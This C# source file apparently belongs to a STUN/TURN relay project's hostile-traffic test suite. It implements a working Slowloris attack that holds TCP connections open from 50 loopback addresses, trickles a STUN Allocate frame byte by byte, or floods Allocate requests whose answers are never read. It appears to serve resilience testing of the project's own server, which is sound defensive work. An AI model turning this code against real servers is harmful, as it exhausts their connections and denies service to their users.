using System.Net;
using System.Net.Sockets;
using NetDiscovery.Relay.Protocol.Registries;
using NetDiscovery.Relay.Protocol.Stun;

namespace NetDiscovery.Hostile.Attack;

/// <summary>
/// Slowloris: holds TCP connections open from 50 addresses, and opens each again when the server ends it. A third stays silent, a third trickles a frame
/// byte by byte, a third asks and never reads.
/// </summary>
internal sealed class SlowConnections : IAsyncDisposable
{
    private const int Sources = 50;
    private static readonly TimeSpan Step = TimeSpan.FromSeconds(1);
    private static readonly byte[] Questions = MakeQuestions();
    private readonly IPEndPoint server;
    private readonly CancellationTokenSource stop = new();
    private readonly Task[] running;
    private long opened, refused, endedByServer;
    private int open, mostOpen;

    public SlowConnections(IPEndPoint server, int count)
    {
        this.server = server;
        running = [.. Enumerable.Range(0, count).Select(HoldAsync)];
    }

    public long Opened => Interlocked.Read(ref opened);

    /// <summary>Attempts that failed.</summary>
    public long Refused => Interlocked.Read(ref refused);

    public long EndedByServer => Interlocked.Read(ref endedByServer);

    public int MostOpen => mostOpen;

    public async ValueTask DisposeAsync()
    {
        await stop.CancelAsync();
        await Task.WhenAll(running);
        stop.Dispose();
    }

    private async Task HoldAsync(int index)
    {
        try
        {
            // Not all in the same moment.
            await Task.Delay(2 * index % 10_000, stop.Token);
            while (true)
            {
                await OnceAsync(index);
                await Task.Delay(Step, stop.Token);
            }
        }
        catch (OperationCanceledException)
        {
            // The attack is over.
        }
    }

    private async Task OnceAsync(int index)
    {
        using var socket = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp) { NoDelay = true };
        try
        {
            if (index % 3 == 2)
            {
                socket.ReceiveBufferSize = 4096;
            }

            socket.Bind(new IPEndPoint(new IPAddress([127, 77, 0, (byte)(1 + (index % Sources))]), 0));
            await socket.ConnectAsync(server, stop.Token);
        }
        catch (SocketException)
        {
            Interlocked.Increment(ref refused);
            return;
        }

        Interlocked.Increment(ref opened);
        var now = Interlocked.Increment(ref open);
        InterlockedMax(ref mostOpen, now);
        try
        {
            await BeSlowAsync(socket, index % 3);
        }
        catch (SocketException)
        {
            // Ended, with bytes of ours under way.
        }
        finally
        {
            Interlocked.Decrement(ref open);
        }

        Interlocked.Increment(ref endedByServer);
    }

    /// <summary>Returns when the server has ended the connection.</summary>
    private async Task BeSlowAsync(Socket socket, int kind)
    {
        if (kind == 0)
        {
            await socket.ReceiveAsync(new byte[64], stop.Token);
            return;
        }

        // An Allocate of 1,000 bytes that never ends, or questions whose answers nobody reads.
        byte[] frame = [0, 3, 3, 0xD4, 0x21, 0x12, 0xA4, 0x42, .. new byte[992]];
        for (var at = 0; at < frame.Length; at++)
        {
            await socket.SendAsync(kind == 1 ? frame.AsMemory(at, 1) : Questions, stop.Token);
            if (kind == 1 && socket.Poll(0, SelectMode.SelectRead))
            {
                return;
            }

            await Task.Delay(Step, stop.Token);
        }
    }

    private static byte[] MakeQuestions()
    {
        var all = new List<byte>();
        for (var i = 0; i < 10; i++)
        {
            var buffer = new byte[64];
            var writer = new StunWriter(buffer, StunMethod.Allocate, StunClass.Request, TransactionId.NewRandom());
            all.AddRange(buffer[..writer.Finish()]);
        }

        return [.. all];
    }

    private static void InterlockedMax(ref int most, int value)
    {
        for (var seen = Volatile.Read(ref most); value > seen;)
        {
            seen = Interlocked.CompareExchange(ref most, value, seen) is var found && found == seen ? value : found;
        }
    }
}
